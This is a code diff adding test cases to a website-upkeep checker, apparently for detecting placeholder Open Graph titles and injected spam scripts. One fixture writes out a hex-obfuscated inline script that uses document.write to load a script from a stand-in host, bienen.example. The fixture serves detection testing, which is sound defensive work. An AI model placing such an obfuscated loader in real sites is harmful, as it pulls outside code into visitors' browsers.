@@ -18,6 +18,7 @@ import {
   jsonLd,
   link,
   main,
+  RAIN,
   TOUR,
   TYRES,
 } from "./planting.ts";
@@ -213,6 +214,21 @@ export const UPKEEP_CASES: AccuracyCase[] = [
     nearMiss: (w) => jsonLd(w, ABOUT, { "@type": "CreativeWork", datePublished: "2024-12-31" }),
   },
   {
+    rule: "og_placeholder",
+    fault: (w) => shared(w, "My WordPress Blog"),
+    nearMiss: (w) => shared(w, "My WordPress blog about bees, and what it taught me"),
+  },
+  {
+    rule: "injected_spam",
+    fault: (w) =>
+      head(
+        w,
+        CITY,
+        `<script>var a=[${hexed("<script src=")},${hexed("//bienen.example/l.js")}];document[${hexed("write")}](a.join(''));</script>`,
+      ),
+    nearMiss: (w) => head(w, CITY, `<script>document['title'] += ${hexed(" – Honig & mehr")};</script>`),
+  },
+  {
     rule: "search_bots_refused",
     fault: (w) => {
       for (const path of EVERY_PAGE) at(w, path).byAgent.Googlebot = { status: 503, body: "Einen Moment" };
@@ -242,6 +258,15 @@ export const UPKEEP_CASES: AccuracyCase[] = [
     nearMiss: (w) => closedScript(w, "/wp-admin/js/passwort.js"),
   },
 ];
+
+function shared(w: World, title: string): void {
+  edit(w, RAIN, [/<meta property="og:title" content="[^"]*">/, `<meta property="og:title" content="${title}">`]);
+}
+
+/** As intruders write it, by the codes of its letters. */
+function hexed(text: string): string {
+  return `'${[...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, "0").slice(-2)}`).join("")}'`;
+}
 
 function described(w: World, text: string): void {
   edit(w, TOUR, [/<meta name="description" content="[^"]*">/, `<meta name="description" content="${text}">`]);
